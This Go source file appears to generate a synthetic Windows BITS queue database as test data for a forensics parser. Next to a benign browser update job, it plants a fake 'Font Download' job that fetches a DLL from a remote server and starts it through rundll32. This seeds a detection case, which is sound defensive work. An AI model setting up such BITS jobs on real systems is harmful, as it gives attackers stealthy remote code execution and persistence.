package corpus

import (
	"encoding/binary"
	"time"

	"github.com/artifactdump/artifactdump/corpus/esedb"
	"github.com/artifactdump/artifactdump/corpus/regf"
)

// A bitsSpec is a job with one file, as Windows 10 keeps it.
type bitsSpec struct {
	id, file               byte // of which GUIDs are made
	name, command, args    string
	owner                  string
	url, local             string
	size                   uint64
	state                  uint32
	created, done, expires time.Time
}

// Markers of a job, of its list of files, and of a file.
const (
	bitsJobMarker  = "\xA1\x56\x09\xE1\x43\xAF\xC9\x42\x92\xE6\x6F\x98\x56\xEB\xA7\xF6"
	bitsListMarker = "\x36\xDA\x56\x77\x6F\x51\x5A\x43\xAC\xAC\x44\xA2\x48\xFF\xF3\x4D"
	bitsFileMarker = "\xE4\xCF\x9E\x51\x46\xD9\x97\x43\xB7\x3E\x26\x85\x13\x05\x1A\xB2"
)

func bitsGUID(n byte) []byte {
	b := make([]byte, 16)
	for i := range b {
		b[i] = n*17 + byte(i)
	}
	return b
}

func bitsText(b []byte, s string) []byte {
	u := append(regf.UTF16(s), 0, 0)
	return append(binary.LittleEndian.AppendUint32(b, uint32(len(u)/2)), u...)
}

func bitsTimes(b []byte, list ...time.Time) []byte {
	for _, t := range list {
		b = binary.LittleEndian.AppendUint64(b, regf.FILETIME(t))
	}
	return b
}

func bitsNumbers(b []byte, list ...uint32) []byte {
	for _, n := range list {
		b = binary.LittleEndian.AppendUint32(b, n)
	}
	return b
}

func (s bitsSpec) job() []byte {
	b := bitsNumbers([]byte(bitsJobMarker), 0, 2, s.state, 0)
	b = append(b, bitsGUID(s.id)...)
	for _, t := range []string{s.name, "", s.command, s.args, s.owner} {
		b = bitsText(b, t)
	}
	b = append(bitsNumbers(b, 3), make([]byte, 40)...) // flags; descriptor and token
	b = bitsNumbers(append(b, bitsListMarker...), 1)
	b = append(append(b, bitsGUID(s.file)...), bitsListMarker...)
	b = bitsTimes(bitsNumbers(b, 0, 0, 600, 86400), s.created, s.done, s.done, s.done)
	b = bitsTimes(append(b, 0, 0, 0, 0, 0, 0), s.done, s.expires)
	return append(b, bitsJobMarker...)
}

func (s bitsSpec) fileBlob() []byte {
	b := bitsText(bitsText(bitsText([]byte(bitsFileMarker), s.local), s.url), `C:\Users\Public\BIT3F1.tmp`)
	b = binary.LittleEndian.AppendUint64(binary.LittleEndian.AppendUint64(b, s.size), s.size)
	return bitsText(bitsText(append(b, 0), `C:\`), `\\?\Volume{5c3a91e7-0000-0000-0000-100000000000}\`)
}

// bitsCase: a browser's update, and the job that brought the DLL and was to start it.
func bitsCase(m *Machine) {
	made := utc(2026, 3, 6, 18, 4, 11, 8120034)
	update := utc(2026, 3, 5, 2, 18, 3, 1204654)
	var jobs, files []esedb.Row
	for _, s := range []bitsSpec{
		{1, 2, "Chrome Component Updater", "", "", MiraSID, "http://updates.browser.example/component.crx3",
			`C:\Users\mira\AppData\Local\Temp\component.crx3`, 4782, 7, update, update.Add(40 * time.Second), update.AddDate(0, 0, 90)},
		{3, 4, "Font Download", `C:\Windows\System32\rundll32.exe`, `"` + ImplantDLL + `",Start`, DanielSID, "http://" + Server +
			"/cache.dll",
			ImplantDLL, 151552, 6, made, made.Add(7 * time.Second), made.AddDate(0, 0, 90)},
	} {
		jobs = append(jobs, esedb.Row{Values: []any{bitsGUID(s.id), esedb.Long{Value: s.job()}}})
		files = append(files, esedb.Row{Values: []any{bitsGUID(s.file), esedb.Long{Value: s.fileBlob()}}})
	}
	columns := []esedb.Column{{Name: "Id", Type: esedb.GUID}, {Name: "Blob", Type: esedb.LongBinary}}
	db := esedb.DB{PageSize: 16384, Revision: 200, State: esedb.Dirty, Tables: []esedb.Table{
		{Name: "Jobs", Columns: columns, Rows: jobs}, {Name: "Files", Columns: columns, Rows: files}}}
	m.File("ProgramData/Microsoft/Network/Downloader/qmgr.db", db.Bytes())
}
